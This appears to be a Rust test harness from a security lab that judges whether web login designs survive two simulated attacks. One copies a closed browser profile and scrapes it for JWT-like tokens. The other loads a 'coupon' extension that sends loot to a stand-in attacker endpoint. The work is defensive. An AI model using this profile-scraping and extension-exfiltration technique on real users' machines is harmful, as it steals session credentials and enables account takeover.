//! The victim's own machine is not the victim's alone: M2, a thief of profiles, and M3, an extension. Both need a browser of
//! their own, because what they are after outlives a context.

use std::path::Path;

use anyhow::{Context as _, Result};
use cloakroom_browser::{Browser, Engine, Launch, Page, Profile};
use cloakroom_lab_report::{Actor, Verdict};

use super::payload::DONE;
use super::script::judge_loot;
use crate::person::{READY, tries};
use crate::redeem::{Loot, redeem};
use crate::scene::{Outcome, Scene};

/// Files of a profile larger than this hold no credential of an hour ago.
const LARGEST_FILE: u64 = 8 << 20;

/// M2: a program of the attacker copies the profile's folder after the browser was closed.
pub(super) async fn infostealer(scene: &mut Scene<'_>) -> Result<Outcome> {
    let engine = scene.browser.engine();
    if engine == Engine::WebKit {
        return Ok((Verdict::NotRun, "WebKitGTK under its driver keeps nothing in a profile".to_owned()));
    }
    let profile = Profile::new()?;
    let launch = Launch { profile: Some(profile.clone()), ..scene.launch() };
    let browser = Browser::launch_with(engine, &launch).await?;
    lives_in(scene, &browser).await?;
    browser.close().await.context("closing the victim's browser")?;
    scene.step(Actor::Victim, "uses the application, and closes the browser", "");
    let stolen = profile.copy()?;
    let words = scan(stolen.path())?;
    scene.step(
        Actor::Attacker,
        "copies the profile's folder and looks for tokens in it",
        format!("{} candidates", words.len()),
    );
    let loot = Loot { texts: words, cookies: Vec::new() };
    if let Some(redeemed) = redeem(scene, &loot).await? {
        return Ok((
            Verdict::Leak,
            format!("a credential lies in the profile's files, and opens the account: {}", redeemed.how),
        ));
    }
    let launch = Launch { profile: Some(stolen), ..scene.launch() };
    let elsewhere = Browser::launch_with(engine, &launch).await?;
    let page = elsewhere.kept_context().await?.page().await?;
    page.goto(&scene.app("/")).await?;
    page.wait_for(READY).await?;
    let opens = scene.victim.sees_own_profile(&page).await?;
    scene.step(
        Actor::Attacker,
        "starts a browser on the copy",
        if opens { "it shows the victim's profile" } else { "nobody is logged in there" },
    );
    drop(elsewhere.close().await);
    Ok(if opens {
        (Verdict::Leak, "a browser on a copy of the profile is logged in as the victim".to_owned())
    } else {
        (Verdict::Safe, "neither the files nor a browser on a copy of them open the account".to_owned())
    })
}

/// M3: an extension with the permissions that many ask for.
pub(super) async fn extension(scene: &mut Scene<'_>) -> Result<Outcome> {
    let engine = scene.browser.engine();
    if engine == Engine::WebKit {
        return Ok((Verdict::NotRun, "WebKitGTK has no extensions of this kind".to_owned()));
    }
    let folder = tempfile::tempdir()?;
    let head = format!("const LOOT = {:?};\nconst APP = {:?};\n", scene.evil("/loot"), scene.app(""));
    std::fs::write(folder.path().join("manifest.json"), include_str!("../../extension/manifest.json"))?;
    let background = format!("{head}{}", include_str!("../../extension/background.js"));
    std::fs::write(folder.path().join("background.js"), background)?;
    let launch = Launch { extension: Some(folder.path().to_owned()), ..scene.launch() };
    let browser = Browser::launch_with(engine, &launch).await?;
    scene.step(Actor::Victim, "has an extension that finds coupons", "");
    let page = lives_in(scene, &browser).await?;
    page.goto(&scene.app("/?reap=1")).await?;
    let pieces = scene.world.evil.wait_loot(DONE).await?;
    drop(browser.close().await);
    judge_loot(scene, &pieces, Verdict::Leak).await
}

/// The honest use, in the jar that the profile keeps.
async fn lives_in(scene: &Scene<'_>, browser: &Browser) -> Result<Page> {
    let page = browser.kept_context().await?.page().await?;
    page.goto(&scene.app("/")).await?;
    page.wait_for(READY).await?;
    // Whoever offers to remember people leaves most on the disk when it does.
    if crate::world::own(scene.row).is_some()
        && scene.row != "cloakroom-memory"
        && scene.row != "cloakroom-split-bearer"
    {
        scene.victim.log_in_remembered(&page).await?;
    } else {
        scene.victim.log_in(&page).await?;
    }
    anyhow::ensure!(scene.victim.sees_own_profile(&page).await?, "the victim does not see their own profile");
    tries(&page, "refresh", &[]).await?;
    tries(&page, "profile", &[]).await?;
    Ok(page)
}

/// Everything in the files of a folder that looks like a token.
fn scan(folder: &Path) -> Result<Vec<String>> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder)? {
        let entry = entry?;
        let kind = entry.file_type()?;
        if kind.is_dir() {
            found.extend(scan(&entry.path())?);
        } else if kind.is_file() && entry.metadata()?.len() <= LARGEST_FILE {
            let bytes = std::fs::read(entry.path())?;
            // UTF-16 is UTF-8 with a zero after every letter, for what tokens are made of.
            let narrow: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
            for bytes in [&bytes, &narrow] {
                let words = bytes.split(|byte| !(byte.is_ascii_alphanumeric() || b"-_.".contains(byte)));
                let words = words.filter(|word| word.starts_with(b"ey") && word.len() > 60);
                found.extend(words.map(|word| String::from_utf8_lossy(word).into_owned()));
            }
        }
    }
    found.sort();
    found.dedup();
    Ok(found)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_are_found_in_files_in_both_widths() {
        let folder = tempfile::tempdir().unwrap();
        let token = format!("ey{}.ey{}.{}", "a".repeat(20), "b".repeat(20), "c".repeat(40));
        std::fs::create_dir(folder.path().join("deep")).unwrap();
        let wide: Vec<u8> = token.bytes().flat_map(|byte| [byte, 0]).collect();
        std::fs::write(folder.path().join("deep/one"), [b"\x01\x02".as_slice(), &wide, b"\xff"].concat()).unwrap();
        assert_eq!(scan(folder.path()).unwrap(), [token]);
    }
}
